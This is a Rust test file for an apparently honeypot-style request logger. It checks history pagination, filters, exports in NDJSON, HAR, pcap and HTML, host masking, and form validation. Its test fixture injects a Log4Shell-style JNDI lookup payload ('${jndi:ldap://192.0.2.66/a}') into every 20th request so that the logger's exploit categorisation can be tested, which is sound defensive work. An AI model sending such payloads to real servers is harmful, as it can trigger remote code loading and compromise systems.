//! Reading the history, with all programs as shipped: lasting links, pages, files.

use std::path::Path;

use anyhow::{Context, ensure};
use forever200_testkit::{Stack, get_json, until};
use serde_json::Value;
use tempfile::TempDir;

const SENT: u64 = 260;

async fn start(folder: &Path, more: &[(&str, &str)]) -> anyhow::Result<Stack> {
    let folder = folder.to_str().context("an odd path")?;
    let stack = Stack::start_with(&[&[("FOREVER200_HISTORY", folder)], more].concat()).await?;
    for number in 1..=SENT {
        let exploit = if number % 20 == 0 {
            "?x=${jndi:ldap://192.0.2.66/a}"
        } else {
            ""
        };
        let request =
            format!("GET /page-{number}-{exploit} HTTP/1.1\r\nHost: secret.example\r\n\r\n");
        stack.send(request.as_bytes()).await?;
        // No faster than the viewer's reader, which shares the cores with all other tests.
        if number % 20 == 0 {
            until_written(&stack, number).await?;
        }
    }
    Ok(stack)
}

async fn until_written(stack: &Stack, number: u64) -> anyhow::Result<()> {
    until(&format!("{number} is written"), || async {
        let newest = "/home/api/history?limit=1";
        let list = get_json(stack.front(), newest).await.ok()?;
        (list["requests"][0]["seq"] == number).then_some(())
    })
    .await
}

/// Returns the numbers on a page of 200, and where the next page begins. A search that runs out of
/// time gives a shorter page; then the rest is asked for.
async fn two_hundred(stack: &Stack) -> anyhow::Result<(Vec<u64>, Value)> {
    let (mut found, mut next) = numbers(stack, "limit=200").await?;
    while found.len() < 200 && !next.is_null() {
        let rest = format!("limit={}&before={next}", 200 - found.len());
        let (more, then) = numbers(stack, &rest).await?;
        found.extend(more);
        next = then;
    }
    Ok((found, next))
}

async fn numbers(stack: &Stack, query: &str) -> anyhow::Result<(Vec<u64>, Value)> {
    let list = get_json(stack.front(), &format!("/home/api/history?{query}")).await?;
    let requests = list["requests"].as_array().context("no list")?;
    let numbers = requests.iter().filter_map(|it| it["seq"].as_u64());
    Ok((numbers.collect(), list["next"].clone()))
}

#[tokio::test(flavor = "multi_thread")]
async fn a_link_stays_when_the_ring_has_moved_on() -> anyhow::Result<()> {
    let folder = TempDir::new()?;
    let stack = start(folder.path(), &[]).await?;
    let page = stack.get("/home/requests/3").await?;
    ensure!(
        page.status == 200 && page.text().contains("page-3- HTTP"),
        "{}",
        page.text()
    );
    for link in [
        "/home/requests/4\"",
        "/home/requests/2\"",
        "/home/history?before=4#r3\"",
    ] {
        ensure!(page.text().contains(link), "{link}: {}", page.text());
    }
    let raw = stack.get("/home/requests/3/raw").await?;
    ensure!(
        raw.text().starts_with("GET /page-3- HTTP/1.1\r\n"),
        "{}",
        raw.text()
    );
    for file in ["har", "pcap", "html"] {
        assert_eq!(
            stack.get(&format!("/home/requests/3/{file}")).await?.status,
            200,
            "{file}"
        );
    }
    let json = get_json(stack.front(), "/home/api/requests/3").await?;
    ensure!(json["seq"] == 3 && json["kind"].is_string(), "{json}");
    // There is no gap between the ring and the history.
    let oldest = SENT - 100;
    for (seq, neighbour) in [(oldest, oldest - 1), (oldest - 1, oldest)] {
        let page = stack.get(&format!("/home/requests/{seq}")).await?;
        let link = format!("href=\"/home/requests/{neighbour}\"");
        ensure!(page.text().contains(&link), "{link}: {}", page.text());
    }
    // Only the neighbours that match a filter.
    let page = stack.get("/home/requests/40?category=exploit").await?;
    for link in [
        "/home/requests/60?category=exploit",
        "/home/requests/20?category=exploit",
    ] {
        ensure!(page.text().contains(link), "{link}: {}", page.text());
    }
    assert_eq!(stack.get("/home/requests/9999").await?.status, 404);
    Ok(())
}

#[tokio::test(flavor = "multi_thread")]
async fn pages_go_from_the_newest_to_the_oldest_and_back() -> anyhow::Result<()> {
    let folder = TempDir::new()?;
    let stack = start(folder.path(), &[]).await?;
    let (first, next) = two_hundred(&stack).await?;
    ensure!(
        first.iter().copied().eq((61..=SENT).rev()),
        "{} {:?}",
        first.len(),
        first.last()
    );
    let (second, end) = numbers(&stack, &format!("limit=200&before={next}")).await?;
    assert_eq!((second, end), ((1..=60).rev().collect(), Value::Null));
    let (back, next) = numbers(&stack, "limit=50&after=60").await?;
    assert_eq!((back, next), ((61..=110).rev().collect(), 110.into()));
    let (exploits, end) = numbers(&stack, "category=exploit").await?;
    let every_20th = (1..=13).rev().map(|it| it * 20).collect::<Vec<_>>();
    assert_eq!((exploits, end), (every_20th, Value::Null));
    assert_eq!(numbers(&stack, "q=PAGE-17-&since=1h").await?.0, [17]);
    assert_eq!(
        numbers(&stack, "path=/page-25").await?.0,
        [259, 258, 257, 256, 255, 254, 253, 252, 251, 250, 25]
    );
    ensure!(numbers(&stack, "until=1h").await?.0.is_empty());
    ensure!(numbers(&stack, "-source=127.0.0.0/8").await?.0.is_empty());
    let page = stack.get("/home/history?category=exploit&since=1d").await?;
    ensure!(page.text().contains("id=\"r20\""), "{}", page.text());
    ensure!(
        page.text()
            .contains("/home/history?since=1d&amp;category=exploit&amp;method=GET"),
        "{}",
        page.text()
    );
    let page = stack.get("/home/history?before=100").await?;
    for link in ["after=99\"", "before=50\""] {
        ensure!(page.text().contains(link), "{link}: {}", page.text());
    }
    for wrong in [
        "since=never",
        "until=-1d",
        "before=x",
        "before=3&after=3",
        "since=1h&sort=new",
    ] {
        assert_eq!(
            stack.get(&format!("/home/history?{wrong}")).await?.status,
            400,
            "{wrong}"
        );
    }
    Ok(())
}

#[tokio::test(flavor = "multi_thread")]
async fn an_hour_is_exported_in_all_formats() -> anyhow::Result<()> {
    let folder = TempDir::new()?;
    let stack = start(folder.path(), &[]).await?;
    let lines = stack.get("/home/export.ndjson?since=1h").await?.text();
    let seqs = lines
        .lines()
        .map(|line| Ok(serde_json::from_str::<Value>(line)?["seq"].clone()));
    let seqs: Vec<Value> = seqs.collect::<anyhow::Result<_>>()?;
    assert_eq!(seqs, (1..=SENT).map(Value::from).collect::<Vec<_>>());
    let har: Value = serde_json::from_slice(
        &stack
            .get("/home/export.har?since=1h&category=exploit")
            .await?
            .body,
    )?;
    assert_eq!(har["log"]["entries"].as_array().map(Vec::len), Some(13));
    let pcap = stack.get("/home/export.pcap?since=1h").await?.body;
    assert_eq!(
        packets(&pcap)?,
        packets(&stack.get("/home/export.pcap").await?.body)? * SENT / 101
    );
    let html = stack
        .get("/home/export.html?since=1h&category=exploit")
        .await?;
    assert_eq!(
        html.text().matches("<section id=\"s").count(),
        13,
        "{}",
        html.text()
    );
    Ok(())
}

/// Returns how many packets a capture has. Each packet tells its length.
fn packets(capture: &[u8]) -> anyhow::Result<u64> {
    let (mut rest, mut packets) = (capture.get(24..).context("no header")?, 0);
    while let Some(length) = rest.get(8..12) {
        let length = u32::from_le_bytes(length.try_into()?) as usize;
        rest = rest.get(16 + length..).context("cut short")?;
        packets += 1;
    }
    ensure!(rest.is_empty());
    Ok(packets)
}

#[tokio::test(flavor = "multi_thread")]
async fn what_is_hidden_is_hidden_in_the_history_too() -> anyhow::Result<()> {
    let folder = TempDir::new()?;
    let more = [
        ("FOREVER200_HIDE", "secret.example"),
        ("FOREVER200_MASK_SOURCES", "on"),
    ];
    let stack = start(folder.path(), &more).await?;
    for path in [
        "/home/history",
        "/home/api/history?raw=on",
        "/home/requests/3",
        "/home/export.ndjson?since=1h",
        "/home/export.pcap?since=1h",
    ] {
        let text = stack.get(path).await?.text();
        ensure!(!text.contains("secret.example"), "{path}: {text}");
        ensure!(!text.contains("127.0.0.1:"), "{path}: {text}");
    }
    // Nor can anybody search for it.
    ensure!(numbers(&stack, "q=secret.example").await?.0.is_empty());
    ensure!(numbers(&stack, "host=secret.example").await?.0.is_empty());
    ensure!(numbers(&stack, "source=127.0.0.1").await?.0.is_empty());
    assert_eq!(
        numbers(&stack, "source=127.0.0.0/24&limit=1").await?.0,
        [SENT]
    );
    Ok(())
}

#[tokio::test(flavor = "multi_thread")]
async fn without_a_history_its_addresses_say_so() -> anyhow::Result<()> {
    let stack = Stack::start_with(&[("FOREVER200_HISTORY", "off")]).await?;
    let page = stack.get("/home/history").await?;
    ensure!(
        page.status == 404 && page.text().contains("FOREVER200_HISTORY is off"),
        "{}",
        page.text()
    );
    ensure!(!stack.get("/home").await?.text().contains("/home/history"));
    let error = stack.get("/home/export.ndjson?since=1h").await?;
    ensure!(
        error.status == 404 && error.text().starts_with("{\"error\""),
        "{}",
        error.text()
    );
    Ok(())
}

/// Usually a time that is written in a wrong way. The visitor sees the mistake beside the field.
#[tokio::test(flavor = "multi_thread")]
async fn a_search_that_cannot_be_read_stands_in_its_form_again() -> anyhow::Result<()> {
    let folder = TempDir::new()?;
    let path = folder.path().to_str().context("an odd path")?;
    let stack = Stack::start_with(&[("FOREVER200_HISTORY", path)]).await?;
    let since = "name=\"since\" value=\"yesterday-ish\"";
    let invalid = "aria-invalid=\"true\"";
    for (address, parts) in [
        (
            "/home/history?since=yesterday-ish&q=a%22b&-country=NL",
            &[
                "since: expected",
                since,
                "value=\"a&quot;b\"",
                "name=\"-country\" value=\"NL\"",
                invalid,
            ][..],
        ),
        (
            "/home/history?until=7d&source=x",
            &[
                "source: expected",
                "value=\"7d\"",
                "value=\"x\"",
                "<details open>",
                invalid,
            ],
        ),
        (
            "/home/history?limit=0&port=22",
            &["limit: unknown parameter", "value=\"22\""],
        ),
        (
            "/home?as=x&method=PUT",
            &["as: expected", "value=\"PUT\"", invalid],
        ),
    ] {
        let page = stack.get(address).await?;
        ensure!(page.status == 400, "{address}: {}", page.status);
        let text = page.text();
        for part in ["<form action=", "role=\"alert\""].iter().chain(parts) {
            ensure!(text.contains(part), "{address}: no {part} in {text}");
        }
    }
    // A longer text was not typed, so there is no form. A program gets the error in JSON.
    let long = stack
        .get(&format!("/home/history?since={}", "x".repeat(3000)))
        .await?;
    ensure!(long.status == 400 && !long.text().contains("<form action="));
    let json = stack.get("/home/api/history?since=x").await?;
    ensure!(json.status == 400 && json.text().starts_with("{\"error\":\"since: expected"));
    Ok(())
}
